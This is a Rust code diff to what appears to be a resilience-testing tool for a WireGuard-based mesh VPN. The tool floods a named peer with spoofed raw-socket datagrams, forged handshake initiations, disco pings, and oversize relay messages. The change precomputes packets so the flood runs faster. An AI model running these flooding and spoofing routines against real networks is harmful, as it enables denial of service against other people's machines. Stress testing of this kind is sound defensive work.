@@ -41,7 +41,10 @@ pub async fn run(args: &Args) -> Result<()> {
     let victim = poll
         .until(|netmap| find(netmap.peers.values().map(|node| &**node), name))
         .await?;
-    let (attack, end) = (args.text("attack")?, Instant::now() + args.duration()?);
+    let attack = args.text("attack")?;
+    // Making them takes an emulated CPU longer than sending them.
+    let prepared = prepared(attack, &victim, args.get("prepared")?);
+    let end = Instant::now() + args.duration()?;
     let sent = match attack {
         // Only to be there, with a home relay that the victim has to use to reach us.
         "nothing" => {
@@ -49,9 +52,9 @@ pub async fn run(args: &Args) -> Result<()> {
             0
         }
         "garbage" | "initiations" | "own-initiations" | "disco-pings" => {
-            datagrams(attack, &member, &victim, own, end).await?
+            datagrams(attack, (&member, own), &victim, &prepared, end).await?
         }
-        _ => relayed(attack, &member, &victim, end).await?,
+        _ => relayed(attack, &member, &victim, &prepared, end).await?,
     };
     println!("{sent}");
     Ok(())
@@ -73,7 +76,7 @@ fn find<'a>(mut peers: impl Iterator<Item = &'a Node>, name: &str) -> Option<Vic
 /// Some thousand packets a second: much for a stranger, little enough for a machine that others use.
 struct Pace {
     began: Instant,
-    sent: u64,
+    done: u64,
     per_second: u64,
 }
 
@@ -81,14 +84,14 @@ impl Pace {
     fn new(per_second: u64) -> Self {
         Self {
             began: Instant::now(),
-            sent: 0,
+            done: 0,
             per_second,
         }
     }
 
     async fn wait(&mut self) {
-        self.sent += 1;
-        let due = self.began + Duration::from_secs_f64(self.sent as f64 / self.per_second as f64);
+        self.done += 1;
+        let due = self.began + Duration::from_secs_f64(self.done as f64 / self.per_second as f64);
         if due > Instant::now() + Duration::from_millis(2) {
             tokio::time::sleep_until(due.into()).await;
         }
@@ -97,9 +100,9 @@ impl Pace {
 
 async fn datagrams(
     attack: &str,
-    member: &Member,
+    (member, own): (&Member, Ipv4Addr),
     victim: &Victim,
-    own: Ipv4Addr,
+    prepared: &[Vec<u8>],
     end: Instant,
 ) -> Result<u64> {
     let spoofer = Spoofer::open().context("open a raw socket")?;
@@ -107,23 +110,43 @@ async fn datagrams(
     let mut pace = Pace::new(if attack == "garbage" { 5000 } else { 2000 });
     let socket = UdpSocket::bind((IpAddr::V4(own), PORT)).await?;
     let real = SocketAddrV4::new(own, PORT);
+    let mut again = prepared.iter().cycle().cloned();
+    let mut sent = 0;
     while Instant::now() < end {
         let (from, packet) = match attack {
-            "garbage" => (packets::anybody(), garbage()),
-            "initiations" => (packets::anybody(), packets::random_initiation(&victim.key)),
+            "garbage" | "initiations" => {
+                let packet = again.next().or_else(|| stateless(attack, victim));
+                (packets::anybody(), packet.context("a packet")?)
+            }
             "own-initiations" => (real, packets::own_initiation(&member.node, &victim.key)?),
             _ => (packets::anybody(), ping(member, &shared)),
         };
         if from == real {
-            let _ = socket
-                .send_to(&packet, SocketAddr::V4(victim.address))
-                .await;
+            let to = SocketAddr::V4(victim.address);
+            sent += u64::from(socket.send_to(&packet, to).await.is_ok());
         } else {
             spoofer.send(from, victim.address, &packet)?;
+            sent += 1;
         }
         pace.wait().await;
     }
-    Ok(pace.sent)
+    Ok(sent)
+}
+
+/// So many packets that may be sent again and again.
+fn prepared(attack: &str, victim: &Victim, count: usize) -> Vec<Vec<u8>> {
+    (0..count)
+        .map_while(|_| stateless(attack, victim))
+        .collect()
+}
+
+/// A packet of an attack whose packets are random and stand for themselves.
+fn stateless(attack: &str, victim: &Victim) -> Option<Vec<u8>> {
+    match attack {
+        "garbage" | "relayed-garbage" => Some(garbage()),
+        "initiations" | "relayed-initiations" => Some(packets::random_initiation(&victim.key)),
+        _ => None,
+    }
 }
 
 /// Something like WireGuard, like disco, like STUN, or like nothing at all.
@@ -162,22 +185,29 @@ fn call_me_maybe(member: &Member, shared: &SharedKey) -> Vec<u8> {
     disco::seal(member.disco.public(), shared, rand::random(), &message)
 }
 
-async fn relayed(attack: &str, member: &Member, victim: &Victim, end: Instant) -> Result<u64> {
+async fn relayed(
+    attack: &str,
+    member: &Member,
+    victim: &Victim,
+    prepared: &[Vec<u8>],
+    end: Instant,
+) -> Result<u64> {
     let mut relay = RelayClient::connect(member.server, &member.node).await?;
     let shared = SharedKey::new(&member.disco, &victim.disco);
     let mut pace = Pace::new(if attack == "call-me-maybe" { 50 } else { 2000 });
+    let mut again = prepared.iter().cycle().cloned();
+    let mut sent = 0;
     while Instant::now() < end {
-        let sent = match attack {
+        let result = match attack {
             "call-me-maybe" => {
                 relay
                     .send(&victim.key, &call_me_maybe(member, &shared))
                     .await
             }
-            "relayed-garbage" => relay.send(&victim.key, &garbage()).await,
             "relayed-pings" => relay.send(&victim.key, &ping(member, &shared)).await,
-            "relayed-initiations" => {
-                let packet = packets::random_initiation(&victim.key);
-                relay.send(&victim.key, &packet).await
+            "relayed-garbage" | "relayed-initiations" => {
+                let packet = again.next().or_else(|| stateless(attack, victim));
+                relay.send(&victim.key, &packet.context("a packet")?).await
             }
             // The relay ends the connection each time.
             "oversize" => match relay.send_header(4, 1 << 30).await {
@@ -186,10 +216,11 @@ async fn relayed(attack: &str, member: &Member, victim: &Victim, end: Instant) -
             },
             other => bail!("there is no attack {other}"),
         };
-        if sent.is_err() {
-            relay = RelayClient::connect(member.server, &member.node).await?;
+        match result {
+            Ok(()) => sent += 1,
+            Err(_) => relay = RelayClient::connect(member.server, &member.node).await?,
         }
         pace.wait().await;
     }
-    Ok(pace.sent)
+    Ok(sent)
 }
